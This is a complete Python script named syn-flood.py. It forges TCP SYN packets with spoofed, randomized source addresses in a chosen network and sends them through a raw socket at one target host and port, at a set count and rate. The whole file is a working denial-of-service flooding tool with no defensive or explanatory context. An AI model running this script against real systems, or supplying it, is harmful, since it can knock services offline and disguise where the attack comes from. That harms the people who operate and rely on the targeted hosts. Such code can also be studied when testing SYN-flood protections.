"""SYNs of invented sources at one port. syn-flood.py SOURCE-NETWORK TARGET PORT COUNT A-SECOND SEED"""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


network, target, port, count, rate, seed = sys.argv[1:]
rng = random.Random(seed)
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
destination = socket.inet_aton(target)
began = time.monotonic()
for number in range(int(count)):
    source = socket.inet_aton("%s.%d" % (network, rng.randrange(1, 255)))
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), int(port), rng.randrange(1 << 32), 0, 0x50, 2, 1024, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), rng.randrange(65536), 0, 64, 6, 0) + source + destination
    sock.sendto(ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp, (target, 0))
    late = number / float(rate) - (time.monotonic() - began)
    if late > 0:
        time.sleep(late)
